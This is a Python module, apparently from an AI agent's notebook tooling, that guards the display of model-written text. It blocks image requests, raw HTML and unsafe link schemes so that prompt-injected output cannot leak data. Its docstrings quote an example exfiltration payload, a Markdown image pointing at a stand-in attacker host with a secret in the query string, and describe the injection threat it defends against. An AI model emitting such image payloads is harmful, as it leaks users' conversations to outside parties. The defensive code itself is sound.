"""Model text made safe to show: the one guarded Markdown renderer (HTML) and Markdown no viewer turns into a request.

Model text is hostile input (a prompt injection can make the model write anything), and a displayed image is a
request the browser makes at once: `![x](https://attacker/?q=<secret>)` would leak the conversation without a
click. So in HTML (`markdown_html`, markdown-it with raw HTML off) an image is shown only when it needs no
request: a raster `data:` URI, or a file of this conversation's sandbox, read here and inlined. Any other image
becomes a link (or its text), and links carry `rel="noopener noreferrer"` and only http(s), mailto and relative
targets. For viewers that render Markdown themselves, with raw HTML on (`inert_markdown`), every image and tag
outside code is escaped. Names, arguments and results are never Markdown: they enter as inline code
(`markdown_literal`) or a fenced block (`fence`) that nothing inside can close.

markdown-it (a dependency of rich) is imported only when text is rendered; without it, text is shown escaped.
"""

from __future__ import annotations

import base64
import functools
import html
import re
import urllib.parse
from collections import Counter
from collections.abc import MutableMapping, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from functionary_agent.notebook.sandbox_files import ImageResolver, sandbox_image

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.renderer import RendererHTML
    from markdown_it.rules_core import StateCore
    from markdown_it.token import Token
    from markdown_it.utils import OptionsDict

_LINE_BREAK = re.compile(r"\r\n|\r|\n")  # the line endings of CommonMark
# `data:` images model text may show. SVG is left out: it is a document that can carry script and links.
_MODEL_IMAGE_TYPES = frozenset({"image/png", "image/jpeg", "image/gif", "image/webp"})
# What an <img> of ours may show. SVG from the sandbox is included: in <img> a browser renders SVG in its secure
# static mode (no script runs, no external resource is fetched), and a data: URI has no origin to act for.
_SHOWN_IMAGE_TYPES = _MODEL_IMAGE_TYPES | {"image/svg+xml"}
_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
_WEB_SCHEMES = frozenset({"http", "https"})
_REL = "noopener noreferrer"
_RESOLVE_KEY = "functionary_agent.resolve_image"  # where the markdown-it environment carries the resolver
_MAX_ESCAPE_TRIALS = 40  # parses spent finding the autolinks of one text; past that, their `<` is escaped too
_MAX_MARKDOWN_NESTING = 40  # markdown-it stops reading deeper; the check fences text that comes close


# -- literals: text that is never read as Markdown ---------------------------------------------------------
def fence(text: str, language: str) -> str:
    """A fenced block no content can close early: the fence is longer than any run of backticks inside."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    marker = "`" * max(3, longest + 1)
    return f"{marker}{language}\n{text}\n{marker}"


def markdown_literal(text: str) -> str:
    """`text` as inline code: how every name, role and argument text (model- or file-supplied) enters the
    Markdown rendering. Inside a code span nothing is read as Markdown or HTML; the span's backticks outnumber
    any run inside, so it cannot be closed early, and line breaks become spaces, since a blank line would end
    the paragraph, and the span with it, before its closing backticks."""
    text = _LINE_BREAK.sub(" ", text) or " "
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


# -- model text as HTML ------------------------------------------------------------------------------------
def markdown_html(text: str, resolve: ImageResolver | None = None) -> str:
    """Model and user text as HTML: Markdown rendered with raw HTML off, so a `<script>` the model repeats from
    a tool result stays text, and with images and links guarded (see `_guard_links_and_images`). Without
    markdown-it (a dependency of rich) the text is shown escaped as is."""
    renderer = _markdown_renderer()
    if renderer is None:
        return f'<div style="white-space:pre-wrap">{html.escape(text)}</div>'
    return str(renderer.render(text, {_RESOLVE_KEY: resolve}))


@functools.lru_cache(maxsize=1)
def _markdown_renderer() -> MarkdownIt | None:
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        return None
    renderer = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    renderer.core.ruler.push("guard_links_and_images", _guard_links_and_images)
    renderer.add_render_rule("image", _render_image)
    return renderer


# -- links and images in model text -------------------------------------------------------------------------
def _guard_links_and_images(state: StateCore) -> None:
    """A markdown-it core rule, run after inline parsing: rewrites every inline token stream so that no image
    makes a request and no link leads to a script."""
    resolve = state.env.get(_RESOLVE_KEY)
    for token in state.tokens:
        if token.type == "inline" and token.children:
            token.children = _guarded_inline(token.children, resolve)


def _guarded_inline(children: list[Token], resolve: ImageResolver | None) -> list[Token]:
    """Links keep their `<a>` only for http(s), mailto and relative targets, and get `rel`; a link to anything
    else shows its text. Images go through `_guarded_image`."""
    guarded: list[Token] = []
    links_kept: list[bool] = []  # one entry per link being read: whether its <a> is kept
    for token in children:
        if token.type == "link_open":
            keep = _is_safe_link(str(token.attrGet("href") or ""))
            links_kept.append(keep)
            if keep:
                token.attrSet("rel", _REL)
                guarded.append(token)
        elif token.type == "link_close":
            if links_kept.pop() if links_kept else True:
                guarded.append(token)
        elif token.type == "image":
            guarded += _guarded_image(token, resolve, inside_link=any(links_kept))
        else:
            guarded.append(token)
    return guarded


def _guarded_image(token: Token, resolve: ImageResolver | None, *, inside_link: bool) -> list[Token]:
    """An image stays an image when it needs no request: a raster `data:` URI, or a sandbox file, inlined here.
    Any other image becomes a link to its address (its text alone inside a link, or for a non-web address)."""
    from markdown_it.token import Token

    src = str(token.attrGet("src") or "")
    if _data_uri_type(src) in _MODEL_IMAGE_TYPES:
        return [token]
    inlined = _sandbox_data_uri(src, resolve)
    if inlined is not None:
        token.attrSet("src", inlined)
        return [token]
    label = Token("text", "", 0, content=_plain_text(token.children or []) or src)
    if inside_link or not _is_web_url(src):
        return [label]
    link_open = Token("link_open", "a", 1)
    link_open.attrSet("href", src)
    link_open.attrSet("rel", _REL)
    return [link_open, label, Token("link_close", "a", -1)]


def _render_image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict,
                  env: MutableMapping[str, Any]) -> str:
    """The `<img>` of a guarded image. The source is checked again (a `data:` image of a shown type, nothing
    that makes a request), so an image the core rule did not see still cannot become a request."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = html.escape(_plain_text(token.children or []))
    if _data_uri_type(src) not in _SHOWN_IMAGE_TYPES:
        return alt
    title = token.attrGet("title")
    title_attribute = f' title="{html.escape(str(title))}"' if title else ""
    return f'<img src="{html.escape(src)}" alt="{alt}"{title_attribute} style="max-width:100%"/>'


def _plain_text(tokens: Sequence[Token]) -> str:
    """The text of an image description, without its markup (what `alt` holds)."""
    pieces = []
    for token in tokens:
        if token.type in ("text", "code_inline"):
            pieces.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            pieces.append(" ")
        elif token.children:
            pieces.append(_plain_text(token.children))
    return "".join(pieces)


def _data_uri_type(url: str) -> str | None:
    """The media type of a `data:` URI, in lower case; None for any other URL."""
    if url[:5].lower() != "data:":
        return None
    return url[5:].split(",", 1)[0].split(";", 1)[0].strip().lower()


def _scheme(url: str) -> str | None:
    """The scheme a browser reads in `url`, in lower case (None for a relative URL). As the URL standard does,
    leading controls and spaces are dropped and tabs and newlines removed before it is read; a colon before any
    `/`, `?` or `#` makes a scheme (`java%09script:` is one, and not allowed)."""
    cleaned = "".join(ch for ch in url.lstrip("".join(map(chr, range(0x21)))) if ch not in "\t\n\r")
    head = re.split(r"[/?#]", cleaned, maxsplit=1)[0]
    return head.split(":", 1)[0].lower() if ":" in head else None


def _is_safe_link(href: str) -> bool:
    scheme = _scheme(href)
    return scheme is None or scheme in _LINK_SCHEMES


def _is_web_url(url: str) -> bool:
    return _scheme(url) in _WEB_SCHEMES or url.lstrip().startswith("//")


def _sandbox_data_uri(src: str, resolve: ImageResolver | None) -> str | None:
    """The `data:` URI of the sandbox image an image in model text names by path (`/mnt/data/plot.png`)."""
    if resolve is None or _scheme(src) is not None or src.startswith("//"):
        return None
    image = sandbox_image(urllib.parse.unquote(src), resolve)  # markdown-it percent-encodes the path
    if image is None:
        return None
    mime, data = image
    return f"data:{mime};base64,{base64.b64encode(data).decode('ascii')}"


# -- Markdown for viewers that render it ----------------------------------------------------------------------
def inert_markdown(text: str) -> str:
    """Model text as Markdown no viewer turns into a request. Jupyter and GitHub render Markdown with raw HTML
    on, so `![x](https://attacker/?q=...)` or `<img src=...>` would be fetched as soon as it shows: each `<` and
    image `[` outside code gets a backslash (it reads the same, as plain text), and text that markdown-it still
    reads as an image or HTML afterwards is shown as a code block. Other text is returned unchanged."""
    if "<" not in text and "![" not in text:
        return text  # no image and no HTML can start without one of these
    parser = _markdown_checker()
    if parser is None:
        return fence(text, "text")
    text = text.replace("\r\n", "\n").replace("\r", "\n")  # lines as markdown-it counts them
    try:
        escaped = _escape_outside_code(parser, text)
        inert = _is_inert(parser.parse(escaped))
    except RecursionError:  # nesting deeper than Python's stack: nothing legitimate
        inert = False
    return escaped if inert else fence(text, "text")


@functools.lru_cache(maxsize=1)
def _markdown_checker() -> MarkdownIt | None:
    """markdown-it reading text as a Markdown viewer does: raw HTML on, nesting followed deeper than usual."""
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        return None
    options = {"maxNesting": _MAX_MARKDOWN_NESTING + 10}
    return MarkdownIt("commonmark", options).enable(["table", "strikethrough"])


@dataclass
class _Reading:
    """What escaping must keep (code as shown, the links) and what it must remove (images, raw HTML)."""

    code: list[str]
    links: Counter[str]
    fetching: int


def _reading(tokens: Sequence[Token]) -> _Reading:
    reading = _Reading([], Counter(), 0)
    for token in tokens:
        if token.type in ("code_inline", "code_block", "fence"):
            reading.code.append(token.content)
        elif token.type == "link_open":
            reading.links[str(token.attrGet("href"))] += 1
        elif token.type in ("image", "html_inline", "html_block"):
            reading.fetching += 1
        if token.children:
            inner = _reading(token.children)
            reading.code += inner.code
            reading.links += inner.links
            reading.fetching += inner.fetching
    return reading


def _escape_outside_code(parser: MarkdownIt, text: str) -> str:
    """`text` with a backslash before each `<` and image `[` outside code (inside, it would show). Fenced and
    indented blocks are skipped by their lines, code spans found by `_outside_code_spans`; an autolink's `<` is
    left as it is when a few trials find it (escaping it would lose the link)."""
    tokens = parser.parse(text)
    positions = _outside_code_spans(parser, text, _escapable_positions(text, tokens))
    before = _reading(tokens).links
    escaped = _with_backslashes(text, positions)
    tags = [position for position in positions if text[position] == "<"]
    if not before - _reading(parser.parse(escaped)).links or len(tags) > _MAX_ESCAPE_TRIALS:
        return escaped
    linking = {tag for tag in tags if before - _reading(parser.parse(_with_backslashes(text, [tag]))).links}
    return _with_backslashes(text, [position for position in positions if position not in linking])


def _outside_code_spans(parser: MarkdownIt, text: str, positions: list[int]) -> list[int]:
    """Those of `positions` that are not inside a code span once all are escaped. The token stream has no
    positions, so each is replaced by a private-use character of its own (as inert as an escaped one, and code
    spans end where they did) and one parse shows which turn up inside code."""
    first, last = 0xF0000, 0xFFFFD  # Supplementary Private Use Area-A
    if len(positions) > last - first or any(first <= ord(ch) <= last for ch in text):
        return positions  # cannot mark them apart: escape all (a code span may show a backslash)
    marked = list(text)
    for number, position in enumerate(positions):
        marked[position] = chr(first + number)
    code = "".join(_reading(parser.parse("".join(marked))).code)
    inside = {ord(ch) - first for ch in code if first <= ord(ch) <= last}
    return [position for number, position in enumerate(positions) if number not in inside]


def _escapable_positions(text: str, tokens: Sequence[Token]) -> list[int]:
    """Where a `<` or an image's `[` starts (not already escaped), outside fenced and indented code blocks."""
    code_lines = {line for token in tokens if token.type in ("fence", "code_block") and token.map
                  for line in range(*token.map)}
    positions: list[int] = []
    offset = 0
    for number, line in enumerate(text.split("\n")):
        if number not in code_lines:
            positions += [offset + i for i in range(len(line)) if _starts_syntax(line, i)]
        offset += len(line) + 1
    return positions


def _starts_syntax(line: str, index: int) -> bool:
    ch = line[index]
    if ch != "<" and not (ch == "[" and line[index - 1 : index] == "!"):
        return False
    backslashes = len(line[:index]) - len(line[:index].rstrip("\\"))
    return backslashes % 2 == 0


def _with_backslashes(text: str, positions: Sequence[int]) -> str:
    pieces, start = [], 0
    for position in sorted(positions):
        pieces += [text[start:position], "\\"]
        start = position
    return "".join(pieces) + text[start:]


def _is_inert(tokens: Sequence[Token]) -> bool:
    """No image and no raw HTML, and nesting well short of where markdown-it stops reading (past it, a viewer
    that reads deeper could find what markdown-it did not)."""
    return _reading(tokens).fetching == 0 and _deepest(tokens) < _MAX_MARKDOWN_NESTING


def _deepest(tokens: Sequence[Token]) -> int:
    return max((max(token.level, _deepest(token.children or [])) for token in tokens), default=0)
